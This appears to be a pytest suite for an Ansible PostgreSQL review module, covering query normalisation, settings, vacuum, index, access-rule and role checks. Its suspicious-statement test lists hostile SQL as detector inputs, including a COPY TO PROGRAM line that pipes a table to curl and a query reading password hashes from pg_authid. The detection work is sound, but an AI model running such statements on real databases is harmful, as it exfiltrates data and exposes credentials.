# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The pure parts of the PostgreSQL review; tests/hosts has what needs a server."""

from __future__ import annotations

import importlib.util
import json
from datetime import datetime, timezone
from pathlib import Path

import pytest
import yaml
from hypothesis import example, given
from hypothesis import strategies as st

from ansible_collections.ops.maintenance.plugins.module_utils import (
    postgresql_review,
    postgresql_review_access,
    postgresql_review_activity,
    postgresql_review_bloat,
    postgresql_review_fit,
    postgresql_review_indexes,
    postgresql_review_roles,
    postgresql_review_schema,
    postgresql_review_server,
    postgresql_review_slowest,
    postgresql_review_statements,
    postgresql_review_suspicious,
    postgresql_review_tables,
    postgresql_review_usage,
)
from ansible_collections.ops.maintenance.plugins.module_utils.postgresql_review_common import LIMITS, About, Fault, Wording, found
from ansible_collections.ops.maintenance.plugins.module_utils.record import Finding, Metric, Outcome, worst

_spec = importlib.util.spec_from_file_location("schema", Path(__file__).parents[1] / "schema.py")
schema = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(schema)

NOW = datetime(2026, 11, 21, 2, 0, tzinfo=timezone.utc)


def about(**given_):
    return About("main/shop", now=NOW, **given_)


# -- statements without literals --


@pytest.mark.parametrize(
    ("statement", "shown"),
    [
        ("SELECT  a1, $1\n FROM t2 WHERE x = 'O''Brien' AND y > 4.5e-3", "SELECT a1, $1 FROM t2 WHERE x = ? AND y > ?"),
        ('SELECT 1 AS "a\nb\u2028c"', 'SELECT ? AS "a b c"'),
        ('SELECT "Col ""1"" 2" FROM "T" -- Anna\nWHERE z=1', 'SELECT "Col ""1"" 2" FROM "T" WHERE z=?'),
        ("ALTER ROLE app PASSWORD 'hidden'", "ALTER ROLE app PASSWORD ?"),
        (r"SELECT E'it\'s Anna', U&'x', b'01', $tag$Anna $1 $tag$, $$Berta$$", "SELECT ?, ?, ?, ?, ?"),
        ("SELECT 'cut off in the mid", "SELECT ?"),
        ("SELECT $x$cut off", "SELECT ?"),
        ("SELECT 1 /* Anna */ + 2", "SELECT ? + ?"),
        ("SELECT 0x1F, 1_000, .5, 1.", "SELECT ?, ?, ?, ?"),
    ],
)
def test_a_statement_is_shown_without_literals(statement, shown):
    assert postgresql_review_statements.normalised(statement) == shown


@given(st.text(), st.booleans())
@example("\\", True)
@example("'", False)
def test_no_literal_survives(secret, escaped):
    """neff-weekly-01: the text of a query may contain personal data."""
    marked = "geheim" + (secret.replace("\\", "\\\\") if escaped else secret) + "geheim"
    body = marked.replace("'", r"\'" if escaped else "''")
    quoted = f"E'{body}'" if escaped else f"'{body}'"
    assert "geheim" not in postgresql_review_statements.normalised(f"SELECT a FROM t WHERE b = {quoted} AND c = 1", 10**6)


@given(st.text())
def test_any_text_of_a_statement_is_shown_on_one_line_within_the_limit(statement):
    shown = postgresql_review_statements.normalised(statement, 50)
    assert len(shown) <= 50
    assert "\n" not in shown


# -- settings --


def setting(value, unit=None, kind="integer", name="s"):
    return {"name": name, "setting": value, "unit": unit, "type": kind, "source": "configuration file", "pending_restart": False}


@pytest.mark.parametrize(
    ("wanted", "row", "fits"),
    [
        ("1GB", setting("131072", "8kB"), True),
        (">=1GB", setting("131072", "8kB"), True),
        (">= 2GB", setting("131072", "8kB"), False),
        ("<=2GB", setting("131072", "8kB"), True),
        ("5min", setting("300", "s"), True),
        ("300000", setting("300000", "ms"), True),
        ("5min", setting("300000", "ms"), True),
        ("1GB", setting("300", "s"), None),
        ("many", setting("300", "s"), None),
        ("0.9", setting("0.9", None, "real"), True),
        ("true", setting("on", None, "bool"), True),
        ("on", setting("off", None, "bool"), False),
        ("perhaps", setting("on", None, "bool"), None),
        ("REPLICA", setting("replica", None, "enum"), True),
        (">=replica", setting("replica", None, "enum"), None),
        ("a,b", setting("a,b", None, "string"), True),
    ],
)
def test_settings_are_compared_in_their_units(wanted, row, fits):
    assert postgresql_review_server.fits(wanted, row) is fits


def test_a_setting_that_cannot_be_compared_is_unknown():
    params = {"recommended_settings": {"s": "1GB", "other": 1}}
    finding = postgresql_review_server.judge_recommended(about(params=params), [setting("300", "s")])[0]
    assert finding.state == "unknown"
    assert "other is not known" in finding.summary


@pytest.mark.parametrize(
    ("facts", "declared", "state", "says"),
    [
        ((170004, ""), {"17": "17.6"}, "warning", "17.6 is the newest"),
        ((170006, ""), {"17": "17.6"}, "ok", "newest declared"),
        ((170010, ""), {"17": 10}, "ok", "newest declared"),
        ((170004, "postgres (PostgreSQL) 17.6 (Debian 17.6-1)"), {}, "warning", "waits for a restart"),
        ((170006, "postgres (PostgreSQL) 17.6 (Debian 17.6-1)"), {}, "ok", "the package that is installed"),
        ((170006, ""), {}, "unknown", "neither declared"),
        ((170006, ""), {"16": "16.2"}, "unknown", "neither declared"),
        ((130023, ""), {"13": "13.23"}, "critical", "gets no fixes since 2025-11-13"),
    ],
)
def test_the_version_is_judged_by_what_is_known_of_newer_ones(facts, declared, state, says):
    judged = postgresql_review_server.judge_version(
        about(params={"newest_minor": declared}), dict(zip(("number", "installed"), facts, strict=True))
    )[0]
    assert judged.state == state
    assert says in judged.summary


# -- counters --


def counters(**given_):
    begun = datetime(2026, 11, 1, tzinfo=timezone.utc)
    row = {"xact_commit": 10000, "xact_rollback": 0, "blks_read": 1, "blks_hit": 9, "temp_files": 0, "temp_bytes": 0, "deadlocks": 0}
    return [{**row, "stats_reset": begun, "started": begun, **given_}]


@pytest.mark.parametrize(("failed", "state"), [(0, "ok"), (9, "ok"), (11, "warning")])
def test_failed_transactions_stay_below_a_tenth_of_a_percent(failed, state):
    """neff-kpi-05: 0.1 percent of queries."""
    judged = postgresql_review_statements.judge_counters(about(), counters(xact_commit=10000 - failed, xact_rollback=failed))
    assert judged[0].state == state
    assert judged[0].basis == "estimated"


def test_few_transactions_prove_no_share():
    """neff-kpi-05: one failure in ten is no 10 percent."""
    judged = postgresql_review_statements.judge_counters(about(), counters(xact_commit=9, xact_rollback=1))
    assert judged[0].state == "unknown"


def test_counters_are_compared_with_the_last_run_unless_they_began_anew():
    first = about()
    postgresql_review_statements.judge_counters(first, counters(deadlocks=5, xact_rollback=900))
    second = about(kept=json.loads(json.dumps(first.keep)))
    judged = postgresql_review_statements.judge_counters(second, counters(deadlocks=5, xact_rollback=900, xact_commit=20000))
    assert [finding.state for finding in judged] == ["ok", "ok", "ok"]
    again = counters(deadlocks=2, stats_reset=NOW)
    assert postgresql_review_statements.judge_counters(about(kept=first.keep), again)[2].value == 2


# -- the slowest statements --


def totals(*rows, since=NOW):
    listed = [
        {"database": "shop", "key": f"{name}/10", "query": f"SELECT {name}", "calls": calls, "total_ms": ms} for name, calls, ms in rows
    ]
    other = {"database": "other", "key": "z/10", "query": "SELECT elsewhere", "calls": 9, "total_ms": 9e9}
    return {"database": "shop", "shared": {"totals": [*listed, other], "since": since}}


def slowest(*rows, kept=None, **more):
    looked = about(kept=json.loads(json.dumps(kept or {})))
    [found_] = postgresql_review_slowest.judge_slowest(looked, totals(*rows, **more))
    return found_, looked


def test_the_twenty_with_most_time_are_listed_of_those_that_are_slow():
    """neff-perf-01, neff-kpi-03: ordered by total time, a mean of 100 ms or more, this database alone."""
    slow = [(f"s{n}", 10, 1000.0 + n) for n in range(30)]
    found_, looked = slowest(*slow, ("quick", 10**6, 99 * 10**6))
    assert (found_.state, len(found_.evidence)) == ("ok", 20)
    assert [row["total_ms"] for row in looked.lists["slowest_statements"]] == [1029.0 - n for n in range(20)]
    assert found_.summary.startswith("30 statements took 100 ms or more on average since 2026-11-21")
    assert "quick" not in str(found_.evidence)
    assert "elsewhere" not in str(found_.evidence)


def test_only_what_was_counted_since_the_last_run_is_told():
    """asr-04-3: a statement that was slow before the last run and did not run again is not told twice."""
    _first, looked = slowest(("old", 10, 5000.0), ("both", 10, 2000.0))
    found_, _later = slowest(("old", 10, 5000.0), ("both", 14, 2600.0), ("new", 1, 150.0), kept=looked.keep)
    assert found_.summary.startswith("2 statements took 100 ms or more on average since the last run")
    assert found_.evidence == ["0.6 s = 150.0 ms x 4 calls: SELECT both", "0.1 s = 150.0 ms x 1 calls: SELECT new"]


@pytest.mark.parametrize("reset", [datetime(2026, 11, 20, tzinfo=timezone.utc), NOW])
def test_counters_that_began_anew_are_not_subtracted_from(reset):
    """asr-04-3: when counting began is kept, so that the figures of two windows can be compared."""
    _first, looked = slowest(("s", 10, 5000.0))
    found_, _later = slowest(("s", 8, 4000.0), kept=looked.keep, since=reset)
    assert found_.evidence == ["4.0 s = 500.0 ms x 8 calls: SELECT s"]


def test_without_counters_there_is_no_list():
    facts = {"database": "shop", "shared": {"why": "nothing is counted"}}
    assert postgresql_review_slowest.judge_slowest(about(), facts)[0].state == "unknown"


# -- tables --


def table(**given_):
    return {**postgresql_review_tables.bad_tables()[0], "planned_rows": 100.0, "options": [], **given_}


def test_a_table_that_nobody_counted_is_not_clean():
    """asr-06-3: no dead rows, because there are no counters."""
    lost = table(live=0, dead=0, vacuumed=None, analysed=None, main_bytes=8192)
    assert postgresql_review_tables.judge_dead(about(), [lost])[0].state == "unknown"
    fresh = table(live=10, dead=0, vacuumed=None, analysed=None, main_bytes=8192)
    assert postgresql_review_tables.judge_dead(about(), [fresh])[0].state == "ok"
    empty = table(live=0, dead=0, vacuumed=None, analysed=None, main_bytes=0)
    assert postgresql_review_tables.judge_dead(about(), [empty])[0].state == "ok"


def test_autovacuum_s_own_threshold_decides_what_is_due():
    hour = NOW.timestamp() - 3600
    day = NOW.timestamp() - 2 * 86400
    settings = {"autovacuum_vacuum_threshold": "50", "autovacuum_vacuum_scale_factor": "0.1"}
    big = table(planned_rows=1e6, dead=99_000, live=900_000, vacuumed=day)
    assert postgresql_review_tables.judge_vacuum(about(settings=settings), [big])[0].state == "ok"
    assert postgresql_review_tables.judge_vacuum(about(settings=settings), [{**big, "dead": 101_000}])[0].state == "warning"
    assert postgresql_review_tables.judge_vacuum(about(settings=settings), [{**big, "dead": 101_000, "vacuumed": hour}])[0].state == "ok"
    own = {**big, "options": ["autovacuum_vacuum_scale_factor=0.01"]}
    assert postgresql_review_tables.judge_vacuum(about(settings=settings), [own])[0].state == "warning"


def test_wraparound_is_judged_for_every_database_and_both_counters():
    row = {"name": "template0", "xid_age": 100, "mxid_age": 2**31 * 0.8, "connects": False}
    judged = postgresql_review_server.judge_wraparound(about(), [row])[0]
    assert judged.state == "critical"
    assert "allows no connection" in judged.summary


# -- indexes and keys --


def index(**given_):
    return {**postgresql_review_indexes.bad_indexes()[0], **given_}


@pytest.mark.parametrize("need", ["is_primary", "is_unique", "backs_constraint", "is_identity", "is_exclusion", "is_clustered"])
def test_an_index_that_is_needed_is_never_unused_nor_superfluous(need):
    """asr-06-1, neff-perf-03, flow-monthly-8."""
    needed = index(name="public.needed", **{need: True})
    facts = {**postgresql_review_usage._bad_usage(), "indexes": [needed]}
    assert postgresql_review_usage.judge_unused(about(), facts)[0].state == "ok"
    twin = postgresql_review_indexes.judge_duplicates(about(), [needed, index()])[0]
    assert twin.evidence[0].startswith("public.a is superfluous beside public.needed")
    assert "public.needed is superfluous" not in str(twin)


@pytest.mark.parametrize(
    "other",
    [
        {"predicate": "{OPEXPR}"},
        {"columns": [2]},
        {"classes": "2"},
        {"collations": "5"},
        {"options": "3"},
        {"method": "hash"},
        {"key_count": 2},
    ],
)
def test_indexes_that_differ_are_no_twins(other):
    assert postgresql_review_indexes.judge_duplicates(about(), [index(), index(name="public.b", **other)])[0].state == "ok"


@pytest.mark.parametrize(
    ("given_", "columns", "serves"),
    [
        ({"columns": [1, 2], "key_count": 2}, [2, 1], True),
        ({"columns": [1, 2], "key_count": 2}, [2], False),
        ({"columns": [1, 2], "key_count": 1}, [1, 2], False),
        ({"columns": [1], "is_valid": False}, [1], False),
        ({"columns": [1], "predicate": "{OPEXPR x}"}, [1], False),
        ({"columns": [1], "predicate": "{NULLTEST :arg {VAR} :nulltesttype 1 :argisrow false}"}, [1], True),
        ({"columns": [1], "predicate": "{NULLTEST :arg {VAR} :nulltesttype 0 :argisrow false}"}, [1], False),
        ({"columns": [1], "method": "gin"}, [1], False),
    ],
)
def test_which_index_serves_a_foreign_key(given_, columns, serves):
    assert postgresql_review_indexes.serves(index(**given_), columns) is serves


def test_the_age_of_counters_that_were_never_reset_grows_from_run_to_run():
    facts = {**postgresql_review_usage._bad_usage(), "reset": None, "all_reset": None, "started": NOW}
    first = about()
    assert postgresql_review_usage.judge_unused(first, facts)[0].state == "unknown"
    later = About("main/shop", now=datetime(2026, 12, 24, tzinfo=timezone.utc), kept=first.keep)
    assert postgresql_review_usage.judge_unused(later, facts)[0].state == "warning"


def test_a_crash_since_the_last_run_begins_the_period_anew():
    """asr-06-1, flow-monthly-8: from PostgreSQL 15 on the database's own time of reset stays empty."""
    begin = datetime(2026, 1, 1, tzinfo=timezone.utc)
    facts = {**postgresql_review_usage._bad_usage(), "reset": None, "started": begin, "all_reset": begin}
    kept = {"counting": {"reset": "", "since": begin.timestamp()}}
    assert postgresql_review_usage.judge_unused(about(kept=kept), facts)[0].state == "warning"
    crashed = postgresql_review_usage.judge_unused(about(kept=kept), {**facts, "all_reset": DAYS_AGO})[0]
    assert (crashed.state, "counted for 3.0 days only" in crashed.summary, crashed.as_of) == ("unknown", True, DAYS_AGO.isoformat())


def test_an_index_that_serves_a_foreign_key_is_not_to_be_dropped():
    """neff-perf-03: without it each DELETE of the referred table would scan this one."""
    facts = {**postgresql_review_usage._bad_usage(), "indexes": [index()]}
    assert postgresql_review_usage.judge_unused(about(), facts)[0].state == "warning"
    key = {**postgresql_review_indexes._bad_keys()["keys"][0], "columns": [1]}
    assert postgresql_review_usage.judge_unused(about(), {**facts, "keys": [key]})[0].state == "ok"
    assert postgresql_review_usage.judge_unused(about(), {**facts, "keys": [{**key, "table_oid": 7}]})[0].state == "warning"


def sequence(**given_):
    return {**postgresql_review_schema._bad_sequence()[0], **given_}


@pytest.mark.parametrize(
    ("row", "state"),
    [
        (sequence(last=2**30), "ok"),
        (sequence(last=2**31 - 2), "critical"),
        (sequence(last=2**31 - 2, width=8), "ok"),
        (sequence(last=2**31 - 2, width=None), "ok"),
        (sequence(last=30_000, width=2), "critical"),
        (sequence(last=None), "ok"),
        (sequence(step=-1, highest=-1, lowest=-(2**63), start=-1, last=-(2**31) + 5), "critical"),
        (sequence(step=-1, highest=-1, lowest=-(2**63), start=-1, last=-5), "ok"),
        (sequence(lowest=-(2**31), highest=2**31 - 1, start=-(2**31), last=0), "ok"),
        (sequence(highest=3, last=3, cycles=True, width=None), "ok"),
        (sequence(highest=3, last=3, cycles=True), "critical"),
        (sequence(readable=False, last=None), "unknown"),
    ],
)
def test_sequences_are_judged_by_the_column_that_they_feed(row, state):
    assert postgresql_review_schema.judge_sequences(about(), [row])[0].state == state


# -- access --


def rule(**given_):
    return {**postgresql_review_access._bad_rule()[0], **given_}


@pytest.mark.parametrize(
    ("row", "state"),
    [
        (rule(method="reject"), "ok"),
        (rule(method="scram-sha-256", address="10.0.0.0", netmask="255.0.0.0"), "ok"),
        (rule(method="scram-sha-256", address="0.0.0.0", netmask="0.0.0.0"), "warning"),
        (rule(method="scram-sha-256", address="all", netmask=None), "warning"),
        (rule(method="scram-sha-256", address="::", netmask="::"), "warning"),
        (rule(method="trust", address="127.0.0.1", netmask="255.255.255.255"), "warning"),
        (rule(method="trust", address="127.0.0.1", netmask="0.0.0.0"), "critical"),
        (rule(method="trust", address="::1", netmask="ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff"), "warning"),
        (rule(method="trust", address="db.example.org", netmask=None), "critical"),
        (rule(method="trust", type="local", address=None, netmask=None), "warning"),
        (rule(method="peer", type="local", address=None, netmask=None), "ok"),
        (rule(method="md5", address="10.0.0.5", netmask="255.255.255.255"), "warning"),
        (rule(error="invalid"), "warning"),
    ],
)
def test_rules_that_let_in_too_many(row, state):
    assert postgresql_review_access.judge_rules(about(), [row])[0].state == state


def test_roles_are_unused_only_after_being_watched_long_enough():
    role = {**postgresql_review_access._bad_role(), "oid": "7"}
    facts = {"roles": [role], "statements": {}}
    first = about()
    assert postgresql_review_access.judge_use(first, facts)[0].state == "unknown"
    later = About("main", now=datetime(2027, 6, 1, tzinfo=timezone.utc), kept=first.keep)
    assert postgresql_review_access.judge_use(later, facts)[0].state == "warning"
    assert postgresql_review_access.judge_use(later, {"roles": [role], "statements": {"ran": {"7"}}})[0].state == "ok"


# -- bloat, amcheck, replication --


def test_the_estimate_comes_near_what_pages_hold():
    """A row of two integers takes 36 bytes with its pointer: 226 on a page."""
    columns = [{"number": n, "fixed": 4, "nulls": 0.0, "width": 4.0} for n in (1, 2)]
    assert postgresql_review_bloat.table_bytes(226 * 100, columns, []) == 100 * 8192
    assert postgresql_review_bloat.table_bytes(226 * 100, columns, ["fillfactor=50"]) == 200 * 8192
    assert postgresql_review_bloat.table_bytes(10, [{**columns[0], "fixed": -1, "width": None}], []) is None


@pytest.mark.parametrize(
    ("facts", "state"),
    [
        ({"rc": 0, "said": "", "errors": ""}, "ok"),
        ({"rc": 0, "said": "", "errors": 'pg_amcheck: warning: skipping database "shop": amcheck is not installed'}, "unknown"),
        ({"rc": 1, "said": "", "errors": "pg_amcheck: error: no"}, "unknown"),
        ({"rc": 2, "said": 'btree index "shop.public.i":\n    ERROR:  item order invariant violated\n', "errors": ""}, "critical"),
        ({"rc": 2, "said": "", "errors": ""}, "unknown"),
    ],
)
def test_only_silence_and_success_of_pg_amcheck_are_ok(facts, state):
    assert postgresql_review_bloat.judge_amcheck(about(), facts)[0].state == state


def test_a_slot_whose_wal_is_gone_is_critical():
    row = {"name": "s", "type": "logical", "active": False, "status": "lost", "bytes": None}
    assert postgresql_review_activity.judge_slots(about(), [row])[0].state == "critical"


def test_a_replica_that_rests_behind_nothing_is_not_late():
    row = {"application": "r", "address": "a", "state": "streaming", "bytes": 0.0, "seconds": 9999.0}
    assert postgresql_review_activity.judge_lag(about(), {"replicas": [row], "standby": []})[0].state == "ok"


# -- findings and records --


@given(st.lists(st.sampled_from(["warning", "critical", "unknown"]), max_size=30), st.booleans())
def test_a_finding_is_never_better_than_what_it_names(states, hidden):
    faults = [Fault(f"subject {number}", number, state) for number, state in enumerate(states)]
    finding = found(about(), Wording("postgresql.sample", "fine", "are wrong", "do it"), faults, unseen="something" if hidden else "")[0]
    assert finding.state == (worst(states) if states else "unknown" if hidden else "ok")
    assert len(finding.evidence) <= 11


def many(databases, state):
    ids = [found_id for check in postgresql_review.OF_DATABASE for found_id in check.ids]
    return [
        Finding(found_id, state(number), f"main/database_{number}", "x" * 200, value=number, advice="y" * 150, evidence=["z" * 200] * 10)
        for number in range(databases)
        for found_id in ids
    ]


@pytest.mark.parametrize("databases", [1, 20, 300])
def test_a_record_of_any_number_of_databases_fits(databases):
    outcome = Outcome("databases", "postgresql_review", "ok", "")
    outcome.findings = many(databases, lambda number: ("ok", "warning", "unknown", "critical")[number % 4])
    outcome.metrics = [Metric("postgresql.size", f"main/database_{number}", number, "bytes") for number in range(5000)]
    before = {
        finding.id: finding.state
        for finding in sorted(outcome.findings, key=lambda one: ("ok", "unknown", "warning", "critical").index(one.state))
    }
    postgresql_review_fit.fitted(outcome)
    assert len(json.dumps(outcome.record())) < 64 * 1024
    assert schema.record_faults(json.loads(json.dumps(outcome.record()))) == []
    after = {}
    for finding in outcome.findings:
        after[finding.id] = worst([after.get(finding.id, "ok"), finding.state])
    assert after == before
    assert outcome.metrics[0].subject in ("main/database_4999", "main/database_0")


def test_every_judge_finds_its_planted_sample():
    assert postgresql_review.self_test() == set()


NOT_EXACT = {
    "postgresql.error_share": "estimated",
    "postgresql.unused_roles": "estimated",
    "postgresql.dead_rows": "estimated",
    "postgresql.statistics": "estimated",
    "postgresql.vacuum_due": "estimated",
    "postgresql.foreign_key_indexes": "estimated",
    "postgresql.missing_indexes": "estimated",
    "postgresql.unused_indexes": "estimated",
    "postgresql.slow_statements": "estimated",
    "postgresql.bloat": "estimated",
    "postgresql.index_bloat": "estimated",
}
"""What comes from statistics, or from signs, and is therefore not exact; every other verdict is."""
DAYS_AGO, MONTHS_AGO = NOW.replace(day=18), NOW.replace(month=8)


def test_every_finding_says_its_basis():
    params = {"recommended_settings": {"autovacuum": "on"}, "newest_minor": {"13": "99"}, "superusers": []}
    bases, since = {}, {}
    for check in (*postgresql_review.OF_SERVER, *postgresql_review.OF_DATABASE):
        if check.sample is not None:
            settings = {"data_checksums": "on", "password_encryption": "md5"}
            judged = check.judge(about(params=params, kept=check.sample_kept, settings=settings), check.sample())
            bases.update((finding.id, finding.basis) for finding in judged)
            since.update((finding.id, finding.as_of) for finding in judged if "counted since " + finding.as_of[:10] in finding.summary)
    assert len(bases) > 40
    assert {name: basis for name, basis in bases.items() if basis != "exact"} == NOT_EXACT
    assert all(since[name] for name in ("postgresql.unused_indexes", "postgresql.slow_statements"))


@pytest.mark.parametrize(
    ("judge", "sample"),
    [
        (postgresql_review_tables.judge_dead, postgresql_review_tables.bad_tables),
        (postgresql_review_tables.judge_statistics, postgresql_review_tables._bad_statistics),
        (postgresql_review_tables.judge_vacuum, postgresql_review_tables.bad_tables),
        (postgresql_review_indexes.judge_foreign_keys, postgresql_review_indexes._bad_keys),
        (postgresql_review_bloat.judge_bloat, postgresql_review_bloat._bad_bloat),
        (postgresql_review_bloat.judge_index_bloat, postgresql_review_bloat._bad_bloat),
    ],
)
def test_an_estimate_says_how_old_the_oldest_statistics_are(judge, sample):
    [never] = judge(about(), sample())
    assert never.as_of == ""
    for moment in (DAYS_AGO, MONTHS_AGO):
        facts = sample()
        tables = facts if isinstance(facts, list) else facts["tables"]
        for table in tables.values() if isinstance(tables, dict) else tables:
            table["analysed"] = moment.timestamp()
        [finding] = judge(about(), facts)
        assert (finding.basis, finding.as_of) == ("estimated", moment.isoformat())


def test_of_several_tables_the_oldest_statistics_count():
    [one] = postgresql_review_tables.bad_tables()
    tables = [{**one, "analysed": DAYS_AGO.timestamp()}, {**one, "analysed": MONTHS_AGO.timestamp()}, {**one, "analysed": None}]
    assert postgresql_review_tables.judge_dead(about(), tables)[0].as_of == MONTHS_AGO.isoformat()


def test_scans_are_counted_since_the_statistics_were_reset_and_measured_bloat_has_no_age():
    facts = {**postgresql_review_usage._bad_scans(), "reset": DAYS_AGO}
    [scans] = postgresql_review_usage.judge_scans(about(), facts)
    assert (scans.basis, scans.as_of) == ("estimated", DAYS_AGO.isoformat())
    bloat = postgresql_review_bloat._bad_bloat()
    bloat["tables"][0]["analysed"] = DAYS_AGO.timestamp()
    [measured] = postgresql_review_bloat.judge_bloat(about(), {**bloat, "measured": {1: 90.0}})
    assert (measured.basis, measured.as_of) == ("sampled", "")


def test_the_sample_of_the_documentation_is_a_record():
    module = "ansible_collections.ops.maintenance.plugins.modules.postgresql_review"
    sample = yaml.safe_load(__import__(module, fromlist=["RETURN"]).RETURN)["maintenance_record"]["sample"]
    assert schema.record_faults(sample) == []


def test_every_limit_is_documented():
    module = "ansible_collections.ops.maintenance.plugins.modules.postgresql_review"
    text = __import__(module, fromlist=["DOCUMENTATION"]).DOCUMENTATION
    missing = [name for name, value in LIMITS.items() if f"C({name}) V({value:.0f})" not in text and f"C({name}) V({value:g})" not in text]
    assert missing == []


def test_every_finding_is_documented():
    path = postgresql_review.__file__.replace("plugins/module_utils/postgresql_review.py", "docs/findings.md")
    with open(path, encoding="utf-8") as source:
        text = source.read()
    ids = [found_id for check in (*postgresql_review.OF_SERVER, *postgresql_review.OF_DATABASE) for found_id in check.ids]
    assert [found_id for found_id in [*ids, postgresql_review.REACHABLE] if f"| `{found_id}` |" not in text] == []


# -- roles --


def a_role(**given_):
    rights = dict.fromkeys(("is_super", "makes_roles", "makes_databases", "replicates", "bypasses"), False)
    return {"name": "app", "logs_in": True, "until": None, "groups": [], "super_groups": [], "through": [], **rights, **given_}


@pytest.mark.parametrize(
    ("row", "state"),
    [
        (a_role(), "ok"),
        (a_role(is_super=True, makes_roles=True), "ok"),  # has a finding of its own
        (a_role(makes_roles=True), "warning"),
        (a_role(bypasses=True, logs_in=False), "warning"),
        (a_role(groups=["staff"]), "ok"),
        (a_role(groups=["pg_execute_server_program"]), "warning"),
        (a_role(groups=["root"], super_groups=["root"]), "warning"),
        (a_role(groups=["replica"], through=["REPLICATION through replica"]), "warning"),  # the group is declared, its member is not
        (a_role(name="replica", replicates=True), "ok"),
    ],
)
def test_rights_that_reach_far_are_declared_or_found_neff_quarterly_04(row, state):
    asked = About("main", params={"privileged_roles": ["replica"]})
    assert postgresql_review_roles.judge_rights(asked, [row])[0].state == state


def test_roles_without_an_end_are_found_where_that_is_asked():
    asked = About("main", params={"roles_without_expiry": ["app"]})
    rows = [a_role(), a_role(name="mia"), a_role(name="tom", until="2027-01-01"), a_role(name="group", logs_in=False)]
    [found_] = postgresql_review_roles.judge_expiry(asked, rows)
    assert (found_.state, found_.evidence) == ("warning", ["mia"])
    assert [check.declared({"roles_without_expiry": given}) for check in postgresql_review_roles.CHECKS[1:2] for given in (None, [])] == [
        False,
        True,
    ]


@pytest.mark.parametrize(
    ("facts", "state"),
    [
        ({"errors": 0, "changed": 0, "loaded": 0}, "ok"),
        ({"errors": 0, "changed": 1, "loaded": 0}, "warning"),
        ({"errors": 2, "changed": 0, "loaded": 1}, "warning"),
        ({"errors": None, "changed": 1, "loaded": 0}, "warning"),
        ({"errors": None, "changed": 0, "loaded": 0}, "unknown"),
        ({"errors": 0, "changed": None, "loaded": None}, "unknown"),
    ],
)
def test_what_is_in_force_is_what_was_loaded_neff_quarterly_05(facts, state):
    moments = {
        name: None if facts[name] is None else datetime(2026, 1, 1 + facts[name], tzinfo=timezone.utc) for name in ("changed", "loaded")
    }
    assert postgresql_review_roles.judge_in_force(about(), {**facts, **moments})[0].state == state


@pytest.mark.parametrize(
    ("query", "role", "doubted"),
    [
        ("SELECT * FROM t WHERE a = $1", "app", False),
        ("INSERT INTO t VALUES ($1)", "app", False),
        ("/* x */ ALTER TABLE t ADD a int", "app", True),
        ("ALTER TABLE t ADD a int", "deploy", False),
        ("COPY t TO PROGRAM 'curl -d @- http://x'", "deploy", True),
        ("COPY t TO stdout", "backup", True),
        ("SELECT rolpassword FROM pg_authid", "deploy", True),
        ("SELECT 'drop table t'", "app", False),
        ("/* /* */ */ DROP TABLE t", "app", True),
        ("DO $$ BEGIN COPY t TO PROGRAM 'x'; END $$", "deploy", True),
        ("DO $$ BEGIN PERFORM 1; END $$", "deploy", False),
        ("DO $$ BEGIN EXECUTE 'DROP ' || 'TABLE t'; END $$", "app", True),
    ],
)
def test_what_is_suspicious_about_a_new_statement(query, role, doubted):
    row = {"role": role, "query": query, "calls": 1, "rows": 5}
    assert bool(postgresql_review_suspicious.doubts(row, False, ["deploy"], 1000)) is doubted


@pytest.mark.parametrize("first_sight", [True, False])
def test_statements_whose_text_is_not_known_are_not_called_fine(first_sight):
    hidden = {"role": "other", "queryid": None, "query": "<insufficient privilege>", "calls": 1, "rows": 1}
    plain = {"role": "app", "queryid": "1", "query": "SELECT $1", "calls": 1, "rows": 1}
    looked = about()
    if not first_sight:
        looked.kept["statements_met"] = {
            "keys": [postgresql_review_suspicious._key(row) for row in (hidden, plain)],
            "roles": ["other", "app"],
        }
    [found] = postgresql_review_suspicious.judge(looked, {"rows": [hidden, plain]})
    assert found.state == "unknown"
    assert found.summary == "the text of 1 statement"
    assert postgresql_review_suspicious.judge(looked, {"rows": [plain]})[0].state == "ok"
